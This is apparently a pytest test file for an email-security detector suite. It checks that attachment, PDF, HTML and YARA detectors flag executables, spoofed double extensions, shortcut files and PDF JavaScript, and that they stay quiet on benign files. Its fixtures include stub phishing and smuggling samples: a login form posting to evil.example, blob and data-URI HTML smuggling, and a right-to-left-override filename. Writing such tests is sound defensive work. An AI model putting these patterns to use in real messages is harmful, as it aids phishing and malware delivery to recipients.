"""Attachment types, names that lie, HTML attachments and PDFs: must fire and must not."""

from __future__ import annotations

import io
import zipfile

import pytest

from aupguard.detectors.attachments import AttachmentsDetector
from aupguard.detectors.base import Detector
from aupguard.detectors.context import Context
from aupguard.detectors.htmlfiles import HtmlFilesDetector
from aupguard.detectors.pdf import PdfDetector
from aupguard.detectors.yarascan import YaraDetector
from aupguard.events.model import Event
from aupguard.events.normalize import views_for
from aupguard.events.sources import read_file
from tests.conftest import corpus
from tests.detectors.samples import mail

PE = b"MZ" + b"\x00" * 58 + b"\x40\x00\x00\x00" + b"PE\x00\x00" + b"\x00" * 200
LNK = b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 100
PDF_JS = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n2 0 obj << /S /J#61vaScript /JS (app.alert(1)) >> endobj\n"
PDF_PLAIN = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"


def fired(detector: Detector, event: Event) -> set[str]:
    return {s.name for s in detector.check(views_for(event), Context())}


def _zip(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(name, data)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "signal"),
    [
        ("setup.exe", PE, "ATTACHMENT_EXECUTABLE"),
        ("report.bin", PE, "ATTACHMENT_EXECUTABLE"),
        ("invoice.pdf.exe", PE, "ATTACHMENT_DOUBLE_EXTENSION"),
        ("invoice\u202efdp.exe", PE, "ATTACHMENT_DOUBLE_EXTENSION"),
        ("photo.jpg", PE, "ATTACHMENT_TYPE_MISMATCH"),
        ("statement.pdf", _zip("a.txt", b"x"), "ATTACHMENT_TYPE_MISMATCH"),
        ("payment.js", b"var x = new ActiveXObject('WScript.Shell');", "ATTACHMENT_SCRIPT"),
        ("run.sh", b"#!/bin/sh\necho hi\n", "ATTACHMENT_SCRIPT"),
        ("doc.lnk", LNK, "ATTACHMENT_SHORTCUT"),
        ("open-me.pdf", LNK, "ATTACHMENT_SHORTCUT"),
        ("disk.iso", b"\x00" * 0x8001 + b"CD001" + b"\x00" * 100, "ATTACHMENT_DISK_IMAGE"),
        ("archive.zip", _zip("docs/scan.pdf.scr", PE), "ATTACHMENT_DOUBLE_EXTENSION"),
        ("archive.zip", _zip("tool.exe", PE), "ATTACHMENT_EXECUTABLE"),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 40 else "",
)
def test_attachment_signals_fire(name: str, data: bytes, signal: str) -> None:
    assert signal in fired(AttachmentsDetector(), mail(attachment=(name, data)))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("report.pdf", PDF_PLAIN),
        ("notes.txt", b"meeting at 10"),
        ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 50),
        ("data.zip", _zip("report.csv", b"a,b\n1,2\n")),
        ("letter.docx", _zip("[Content_Types].xml", b"<Types/>")),
        ("version.1.2.txt", b"release notes"),
    ],
)
def test_attachment_signals_do_not_fire(name: str, data: bytes) -> None:
    assert fired(AttachmentsDetector(), mail(attachment=(name, data))) == set()


def test_renamed_macro_workbook_is_a_type_mismatch() -> None:
    path = corpus("spamassassin-testdata") / "spam" / "olevbmacro" / "renamedmacro.eml"
    event = next(e for e in read_file(path) if isinstance(e, Event))
    assert "ATTACHMENT_TYPE_MISMATCH" in fired(AttachmentsDetector(), event)


def test_pdf_javascript_with_escaped_name() -> None:
    assert fired(PdfDetector(), mail(attachment=("a.pdf", PDF_JS))) == {"PDF_JAVASCRIPT"}
    assert fired(PdfDetector(), mail(attachment=("a.pdf", PDF_PLAIN))) == set()


LOGIN_PAGE = b"<html><body><form action='https://evil.example/p.php'><input name=email><input type=password name=pw></form></body></html>"
SMUGGLER = b"<html><body><script>var b=new Blob([atob('TVqQ')]);var u=URL.createObjectURL(b);</script></body></html>"
DATA_LINK = b"<html><a download='inv.exe' href='data:application/octet-stream;base64,TVpQAAIAAAAEAA8A'>x</a></html>"
NEWSLETTER = b"<html><body><h1>News</h1><a href='https://example.com'>read</a><img src='data:image/png;base64,iVBORw0KGgo='></body></html>"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (LOGIN_PAGE, {"HTML_CREDENTIAL_FORM"}),
        (SMUGGLER, {"HTML_SMUGGLING"}),
        (DATA_LINK, {"HTML_SMUGGLING"}),
        (NEWSLETTER, set()),
    ],
    ids=["login", "blob", "data-link", "newsletter"],
)
def test_html_attachments(data: bytes, expected: set[str]) -> None:
    assert fired(HtmlFilesDetector(), mail(attachment=("page.html", data))) == expected


def test_yara_finds_a_pe_inside_a_container() -> None:
    container = b"\x00" * 100 + PE + b"\x00" * 100
    assert fired(YaraDetector(), mail(attachment=("blob.dat", container))) == {"YARA_MATCH"}
    assert fired(YaraDetector(), mail(attachment=("n.txt", b"plain words"))) == set()


def test_yara_user_rules_reload_on_change(tmp_path: pytest.TempPathFactory) -> None:
    from pathlib import Path

    folder = Path(str(tmp_path))
    rule = folder / "mine.yar"
    rule.write_text('rule Mine { strings: $a = "needle-one" condition: $a }')
    detector = YaraDetector(YaraDetector.Options(rule_dirs=[folder], reload_check_s=0))
    event = mail(attachment=("a.txt", b"a needle-two here"))
    assert fired(detector, event) == set()
    rule.write_text('rule Mine { strings: $a = "needle-two" condition: $a }')
    import os

    os.utime(rule, (1, 1))  # a new mtime even on coarse file systems
    assert fired(detector, event) == {"YARA_MATCH"}
